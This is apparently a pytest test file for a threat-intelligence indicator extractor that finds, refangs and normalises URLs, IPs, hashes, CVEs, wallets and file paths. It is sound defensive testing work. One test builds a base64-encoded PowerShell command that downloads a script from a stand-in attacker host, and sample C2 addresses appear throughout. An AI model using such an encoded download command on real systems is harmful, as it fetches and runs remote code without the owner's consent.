"""What counts as an indicator, what does not, and that no text makes the search slow."""

import base64
import re
from time import process_time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from publicsuffixlist import PublicSuffixList

from mesh.agents.threat_intelligence.indicators import (
    DEFAULT_TYPES,
    TYPES,
    Indicator,
    defang,
    extract,
    refang,
    shipped_lists,
)
from mesh.agents.threat_intelligence.indicators.checksums import keccak256
from mesh.agents.threat_intelligence.indicators.hosts import is_top_level, registrable
from mesh.agents.threat_intelligence.indicators.indicator import Source

SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"

MD5 = "0f1e2d3c4b5a69788796a5b4c3d2e1f0"
ROLE = "arn:aws:iam::123456789012:role/backup-operator"
# Examples of the specifications: BIP 173 and EIP-55.
BECH32 = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
EIP55 = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"


def pairs(text: str, **options: object) -> list[tuple[str, str]]:
    return [(one.type, one.value) for one in extract(text, **options)]  # type: ignore[arg-type]


def only(text: str) -> Indicator:
    (one,) = extract(text)
    return one


@pytest.mark.parametrize(
    "text",
    [
        "See report.pdf, invoice.docx and archive.tar.gz.",
        "Run setup.py, then install.sh, and read README.md; main.rs, build.pl and libc.so are sources.",
        "The release node.js uses index.html and style.css",
        "self.name = user.name; os.path.join(a, b); console.info('x'); window.open(url)",
        "calls obj.method() and client.run() and request.id",
        "e.g. this, i.e. that, a.m. and p.m., vs. others, etc.",
        "Windows version 10.0.19041.1 and Chrome/91.0.44.124, firmware 1.2.3.4, v2.0.1.7",
        "before it was fixed in 9.1.2.3, upgrade to 10.2.0.4",
        "on 12.11.2026 at 10:30:45, 2026-11-22T06:30:00Z, section 4.3.2.1",
        "the object 1.3.6.1.4.1.311 is an OID; 255.256.1.1 is nothing",
        "CVE without digits, CVE-2021, CVE-20-1234, xCVE-2021-44228",
        "ASP.NET and System.IO and VB.NET code",
        "Something ended.It was late.The files.In time",
        "std::vector, Foo::Bar, a::b, ::",
        "and/or, TCP/IP, 24/7, n/a, 1/2, km/h",
        "Order 1234-5678 of 3,141,592 items at 50 % (see [1], [2])",
        "We use the [.] notation for the dot product at hand",
        "Follow @researcher and mail us at the usual place",
        "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb is a bitcoin address with a wrong checksum",
        "00000000000000000000000000000000",
        "MDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAw",
        "T99 TA1 M1 G7 S3 T10590 xT1059",
        "Huawei S1700 and S5700 switches, G1000 and M1015 series",
        "AS2, AS3 and AS400 are no networks, schema.asn1 is a file",
        "Adobe Flash Player 27.0.0.183 and earlier; 10.2.x before 10.2.2.3, 10.3.x before 10.3.0.4",
        "Apache Kafka 0.10.0.0 to 0.10.2.1 and 0.11.0.0 to 0.11.0.1",
        "fixed in commit 8f2c1d0e9b7a6f5e4d3c2b1a09f8e7d6c5b4a392",
        "com.apple.finder, bnep_main.cc, ProcessStats.java, Redmine.pm, Solorigate.BR, HKTL_SCAN.GA",
        "the Microsoft .NET Framework (.NET 4.8)",
        "AS 400 and as 2021 began",
        "",
        " \n\t",
    ],
)
def test_nothing_is_read_into_ordinary_text(text: str) -> None:
    assert pairs(text) == []


@pytest.mark.parametrize(
    ("text", "kind", "value"),
    [
        ("hxxp://evil-site[.]ru/a.php", "url", "http://evil-site.ru/a.php"),
        ("hXXps[:]//evil-site(.)ru/a", "url", "https://evil-site.ru/a"),
        ("hxxps[://]evil-site[dot]ru:8443/a?b=c#d", "url", "https://evil-site.ru:8443/a?b=c#d"),
        ("http:\\\\evil-site.ru/a", "url", "http://evil-site.ru/a"),
        ("http://evil-site,ru/a", "url", "http://evil-site.ru/a"),
        ("h__p://evil-site.ru/a", "url", "http://evil-site.ru/a"),
        ("meow://evil-site.ru/a", "url", "http://evil-site.ru/a"),
        ("fxp://evil-site.ru/a", "url", "ftp://evil-site.ru/a"),
        ("http:\\/\\/evil-site.ru\\/a", "url", "http://evil-site.ru/a"),
        ("HTTP://EVIL-SITE.RU/Path", "url", "http://evil-site.ru/Path"),
        ("tcp://45.9.148.5:4444", "url", "tcp://45.9.148.5:4444"),
        ("http://[2a01:4f8::1]:80/x", "url", "http://[2a01:4f8::1]:80/x"),
        ("evil-site[.]ru", "domain", "evil-site.ru"),
        ("evil-site{.}co{.}uk", "domain", "evil-site.co.uk"),
        ("evil-site\\.ru", "domain", "evil-site.ru"),
        ("evil-site[.ru", "domain", "evil-site.ru"),
        ("evil-site dot com", "domain", "evil-site.com"),
        ("setup[.]py", "domain", "setup.py"),
        ("WWW.EVIL-SITE.RU", "domain", "www.evil-site.ru"),
        ("bücher-shop.de", "domain", "bücher-shop.de"),
        ("xn--bcher-kva.de", "domain", "xn--bcher-kva.de"),
        ("访问evil-site.ru立即", "domain", "evil-site.ru"),
        ("45[.]9[.]148[.]5", "ipv4", "45.9.148.5"),
        ("45.9.148[.5", "ipv4", "45.9.148.5"),
        ("045.009.148.005", "ipv4", "45.9.148.5"),
        ("45.9.148.0/24", "ipv4_cidr", "45.9.148.0/24"),
        ("2A01:04F8:0000::0001", "ipv6", "2a01:4f8::1"),
        ("2a01:4f8::/32", "ipv6_cidr", "2a01:4f8::/32"),
        ("2a01[:]4f8[:][:]1", "ipv6", "2a01:4f8::1"),
        ("bob[at]evil-site[.]ru", "email", "bob@evil-site.ru"),
        ("bob (at) evil-site (dot) ru", "email", "bob@evil-site.ru"),
        ("bob AT evil-site DOT com", "email", "bob@evil-site.com"),
        ("<Bob.Smith+x@Evil-Site.RU>", "email", "Bob.Smith+x@evil-site.ru"),
        ("bob(work)@evil-site.ru", "email", "bob@evil-site.ru"),
        ("user=o'brien@evil-site.ru", "email", "o'brien@evil-site.ru"),
        ("Jabber: bob@exploit.im", "xmpp", "bob@exploit.im"),
        (SHA256.upper(), "sha256", SHA256),
        (f"imphash: {MD5}", "imphash", MD5),
        ("3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C", "ssdeep", "3:AXGBicFlgVNhBGcL6wCrFQEv:AXGHsNhxLsr2C"),
        ("cve 2021-44228", "cve", "CVE-2021-44228"),
        ("T1059.001", "attack_technique", "T1059.001"),
        ("AS13335", "asn", "AS13335"),
        ("00-1A-2B-3C-4D-5E", "mac_address", "00:1a:2b:3c:4d:5e"),
        ("001a.2b3c.4d5e", "mac_address", "00:1a:2b:3c:4d:5e"),
        (f"as {ROLE}, then", "arn", ROLE),
        ("AKIAI44QH8DHBEXAMPLE", "aws_access_key_id", "AKIAI44QH8DHBEXAMPLE"),
        (BECH32, "bitcoin", BECH32),
        (EIP55, "ethereum", EIP55),
        ("HKLM\\Software\\Foo\\Run", "registry_key", "HKLM\\Software\\Foo\\Run"),
        ("<HKCU>\\Control Panel\\Desktop", "registry_key", "HKCU\\Control Panel\\Desktop"),
        ("C:\\Windows\\Temp\\a.exe", "file_path", "C:\\Windows\\Temp\\a.exe"),
        ('"C:\\Program Files\\My App\\my tool.exe"', "file_path", "C:\\Program Files\\My App\\my tool.exe"),
        ("%APPDATA%\\evil\\a.dll", "file_path", "%APPDATA%\\evil\\a.dll"),
        ("/etc/cron.d/evil", "file_path", "/etc/cron.d/evil"),
        ("~/.ssh/authorized_keys", "file_path", "~/.ssh/authorized_keys"),
        ("UA-123456-1", "google_analytics", "UA-123456-1"),
    ],
)  # fmt: skip
def test_each_kind_is_found_refanged_and_normalised(text: str, kind: str, value: str) -> None:
    assert pairs(text) == [(kind, value)]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("(see http://evil-site.ru/a).", "http://evil-site.ru/a"),
        ("[click](http://evil-site.ru/a) now", "http://evil-site.ru/a"),
        ("<a href='http://evil-site.ru/a'>x</a>", "http://evil-site.ru/a"),
        ("**http://evil-site.ru/a** is bad", "http://evil-site.ru/a"),
        ("http://evil-site.ru/a_(b)_(c)!", "http://evil-site.ru/a_(b)_(c)"),
        ("http://evil-site.ru/a, then", "http://evil-site.ru/a"),
        ("\u201chttp://evil-site.ru/a\u201d", "http://evil-site.ru/a"),
        ("http://evil-site.ru/?q[]=1&x=*", "http://evil-site.ru/?q[]=1&x=*"),
        ("&lt;http://evil-site.ru/a&gt;", "http://evil-site.ru/a"),
        ("http://bob:pw@evil-site.ru:80/a", "http://bob:pw@evil-site.ru:80/a"),
        ("evil-site.ru/a.php?x=1", "evil-site.ru/a.php?x=1"),
        ("http://evil-site.ru/?u=http://other.ru/b", "http://evil-site.ru/?u=http://other.ru/b"),
    ],
)
def test_a_url_ends_where_the_running_text_goes_on(text: str, value: str) -> None:
    assert pairs(text) == [("url", value)]


def test_urls_in_a_list_without_spaces_are_told_apart() -> None:
    assert [value for _, value in pairs("http://a1.ru/x,http://b2.ru/y;https://c3.ru")] == [
        "http://a1.ru/x",
        "http://b2.ru/y",
        "https://c3.ru",
    ]


def test_a_span_covers_what_was_written() -> None:
    text = "beacon to hxxps[:]//evil-site[.]ru/a every minute"
    one = only(text)
    assert text[one.start : one.end] == "hxxps[:]//evil-site[.]ru/a"
    assert one.defanged


def test_a_url_takes_the_place_of_its_host_unless_nested_is_asked_for() -> None:
    text = "https://evil-site.ru/go?to=http%3A%2F%2Fother-site.cn%2Fx"
    assert [kind for kind, _ in pairs(text)] == ["url"]
    nested = pairs(text, nested=True)
    assert ("domain", "evil-site.ru") in nested
    assert ("url", "http://other-site.cn/x") in nested


def test_an_email_address_and_a_block_carry_their_host_and_address() -> None:
    assert ("domain", "evil-site.ru") in pairs("bob@evil-site.ru", nested=True)
    assert ("ipv4", "45.9.148.0") in pairs("45.9.148.0/24", nested=True)


def test_a_port_is_kept_with_its_address() -> None:
    one = only("C2 at 45.9.148.5:4444.")
    assert (one.value, one.port) == ("45.9.148.5", 4444)


def test_a_hash_in_a_url_is_an_indicator_of_its_own() -> None:
    assert ("sha256", SHA256) in pairs(f"https://www.virustotal.com/gui/file/{SHA256}")


def test_what_an_encoded_command_hides_is_read() -> None:
    command = base64.b64encode("iwr http://evil-site.ru/a.ps1".encode("utf-16-le")).decode()
    found = [one for one in extract(f"powershell -enc {command}") if one.type == "url"]
    assert [(one.value, one.inside) for one in found] == [("http://evil-site.ru/a.ps1", "base64")]


def test_a_yara_rule_is_found_with_its_imports() -> None:
    rule = 'import "pe"\n\nrule A : b { strings: $a = "}" condition: $a }'
    assert ("yara_rule", rule) in pairs(f"Use this:\n{rule}\nDone.")


def test_only_types_asked_for_are_reported() -> None:
    text = "http://evil-site.ru/a bob@evil-site.ru (123) 456-7890"
    assert pairs(text, types={"domain"}) == [("domain", "evil-site.ru"), ("domain", "evil-site.ru")]
    assert pairs(text, types={"phone_number"}) == [("phone_number", "(123) 456-7890")]
    with pytest.raises(ValueError, match="no such indicator types: telepathy"):
        extract(text, types={"telepathy"})


def test_defanged_only_leaves_what_was_never_meant_as_an_indicator() -> None:
    assert pairs("evil-site[.]ru and vendor-site.de", defanged_only=True) == [("domain", "evil-site.ru")]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("google.com", "large vendor"),
        ("https://www.microsoft.com/en-us/security/blog/x", "large vendor"),
        ("download.windowsupdate.com", "large vendor"),
        ("https://blog.talosintelligence.com/some-actor/", "security vendor or publication"),
        ("attack.mitre.org", "public institution or standards body"),
        ("example.com", "reserved name (RFC 2606, 6761)"),
        ("http://host.example/x", "reserved name (RFC 2606, 6761)"),
        ("10.1.2.3", "private network (RFC 1918)"),
        ("192.168.0.0/16", "private network (RFC 1918)"),
        ("203.0.113.9", "documentation (RFC 5737, 3849, 9637)"),
        ("2001:db8::7", "documentation (RFC 5737, 3849, 9637)"),
        ("http://127.0.0.1:8080/x", "loopback (RFC 6890)"),
        ("8.8.8.8", "public DNS resolver"),
        ("d41d8cd98f00b204e9800998ecf8427e", "hash of: empty file"),
        ("github.com", "hosting of user content: the host itself"),
    ],
)
def test_warning_lists_clear_what_is_harmless_and_are_named(text: str, reason: str) -> None:
    one = only(text)
    assert (one.benign, one.reason) == (True, reason)


@pytest.mark.parametrize(
    "text",
    [
        "https://github.com/someone/loader",
        "https://raw.githubusercontent.com/someone/x/main/a.ps1",
        "https://pastebin.com/raw/AbCdEf12",
        "https://drive.google.com/uc?id=1",
        "someone.github.io",
        "login-update.blogspot.com",
        "https://bucket.s3.amazonaws.com/a.exe",
        "https://evil.blob.core.windows.net/a",
        "https://www.google.com/url?q=http://evil-site.ru/",
        "google.com.evil-site.ru",
        "notgoogle.com",
        "bob@gmail.com",
        "172.32.0.1",
        "9.9.9.0/24",
    ],
)
def test_user_content_and_look_alikes_are_not_whitewashed(text: str) -> None:
    assert not only(text).benign


def test_a_misp_warning_list_adds_to_the_shipped_ones() -> None:
    lists = shipped_lists().with_misp(
        [
            {"name": "Our partners", "type": "hostname", "list": ["partner-site.de"]},
            {"name": "Our ranges", "type": "cidr", "list": ["45.9.148.0/24"]},
            {"name": "Broken", "type": "regex", "list": [".*"]},
        ]
    )
    found = {
        one.value: one.reason for one in extract("www.partner-site.de 45.9.148.5 other-site.de", lists=lists)
    }
    assert found == {"www.partner-site.de": "Our partners", "45.9.148.5": "Our ranges", "other-site.de": ""}


def test_keccak_is_the_one_of_ethereum() -> None:
    assert keccak256(b"abc").hex() == "4e03657aea45a94fc7d47ba826c8d667c0d1e6e33a64a036ec44f58fa12d6c45"
    assert keccak256(b"").hex() == "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"


PIECES = (
    "http hxxp :// [.] (dot) . .com evil-site .ru / @ [at] 45.9.148.5 : :: 2a01 \\ C:\\ HKLM\\ <HKCU>"
    " arn:aws: rule { } condition: ( ) [ ] \" ' , T1059 .001 CVE- 2021-44228 AS1 0x aHR0c Mozilla/5.0 é 中"
    " \u3002 tlp:red +1 -"
)
INDICATOR_LIKE = st.sampled_from([*PIECES.split(), "\n", "\t", " "])
TEXTS = st.one_of(st.text(max_size=200), st.lists(INDICATOR_LIKE, max_size=30).map("".join),
                  st.lists(INDICATOR_LIKE, max_size=30).map(" ".join))  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(TEXTS, st.booleans(), st.booleans())
@example("http://[", True, True)
@example("\ud800.com http://\ud800.com", False, True)
def test_no_text_breaks_extraction(text: str, lenient: bool, nested: bool) -> None:
    found = extract(text, types=TYPES, lenient=lenient, nested=nested)
    assert found == extract(text, types=TYPES, lenient=lenient, nested=nested)
    for one in found:
        assert 0 <= one.start < one.end <= len(text)
        assert one.value
    starts = [one.start for one in found]
    assert starts == sorted(starts)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
def test_every_span_refangs_to_its_value(text: str) -> None:
    hosts = {"domain", "ipv4", "url"}
    for one in extract(text, types=hosts):
        if not one.inside and one.type == "domain":
            assert refang(text[one.start : one.end]).text.lower().replace(" ", "") == one.value


VALUES = st.sampled_from(
    [
        ("url", "http://evil-site.ru/a?b=c"),
        ("url", "https://bob@evil-site.ru:8443/"),
        ("url", "ftp://45.9.148.5/x"),
        ("domain", "a.b.evil-site.co.uk"),
        ("ipv4", "45.9.148.5"),
        ("ipv4_cidr", "45.9.148.0/24"),
        ("ipv6", "2a01:4f8::1"),
        ("ipv6_cidr", "2a01:4f8::/32"),
        ("email", "bob.smith@evil-site.ru"),
        ("sha256", SHA256),
        ("cve", "CVE-2021-44228"),
    ]
)


@given(VALUES, st.sampled_from(["{}", "see {} now", "({})", "x, {}.", "\t{}\n"]))
def test_a_defanged_value_comes_back_from_any_surroundings(value: tuple[str, str], shape: str) -> None:
    kind, plain = value
    assert refang(defang(plain, kind)).text == plain
    found = extract(shape.format(defang(plain, kind)))
    assert (kind, plain) in [(one.type, one.value) for one in found]


LABELS = st.from_regex(r"[a-z][a-z0-9]{2,10}", fullmatch=True)


@given(
    LABELS,
    LABELS,
    st.sampled_from(["ru", "com", "co.uk", "xyz"]),
    st.from_regex(r"(/[a-z0-9]{1,8}){0,3}", fullmatch=True),
)
def test_values_are_stable_when_extracted_again(first: str, second: str, top: str, path: str) -> None:
    for text in (f"http://{first}.{second}.{top}{path}", f"www.{second}.{top}", f"{first}@{second}.{top}"):
        once = pairs(text)
        assert once
        assert [pair for _, value in once for pair in pairs(value)] == once


HOSTILE = [
    "a.", "[.]", "(", "http://", "0123456789abcdef", "@", "a@", "a[.]", "((.", "http://a.com/(", "a.com/",
    "::", "C:\\a b", "rule a { condition: ", "HKLM\\a a ", "arn:aws:s3:::a", "Mozilla/5.0 (", "a H R 0 c ",
    "A B ",    " dot ", "1.2.", "/A B", "a at b dot ", '"', "\\", "é.", "&gt;", "import ",
]  # fmt: skip


@pytest.mark.parametrize("unit", HOSTILE)
def test_eight_times_the_hostile_text_takes_about_eight_times_the_work(unit: str) -> None:
    """Processor time of this process, as a ratio: a quadratic search would need 64 times as much."""

    def work(size: int) -> float:
        text = (unit * size)[:size]
        began = process_time()
        extract(text)
        return process_time() - began

    extract(unit)
    small = min(work(10_000) for _ in range(2))
    large = min(work(80_000) for _ in range(2))
    assert large < 32 * max(small, 0.001), f"{unit!r}: {small:.4f} s, then {large:.4f} s"


def test_the_source_is_read_without_being_changed() -> None:
    text = "hxxp://evil-site[.]ru"
    source = Source(text, frozenset(DEFAULT_TYPES))
    assert source.clean == "http://evil-site.ru"
    assert source.raw == text


def test_every_listed_domain_is_well_formed() -> None:
    lists = shipped_lists()
    names = [*lists.domains, *lists.hosting]
    assert len(names) > 300
    assert [name for name in names if not re.fullmatch(r"[a-z0-9-]+(\.[a-z0-9-]+)+", name)] == []


def test_public_suffixes_are_those_that_the_library_itself_reads() -> None:
    theirs = PublicSuffixList()
    for domain in (
        "a.b.co.uk",
        "a.github.io",
        "x.example.рф",
        "x.example.xn--p1ai",
        "a.city.kawasaki.jp",
        "a.zz",
    ):
        assert registrable(domain) == (theirs.privatesuffix(domain) or ""), domain
    for label in ("com", "рф", "xn--p1ai", "公司", "xn--55qx5d", "exe", "zz"):
        known = theirs.publicsuffix(f"x.{label}", accept_unknown=False)
        assert is_top_level(label) == bool(known), label
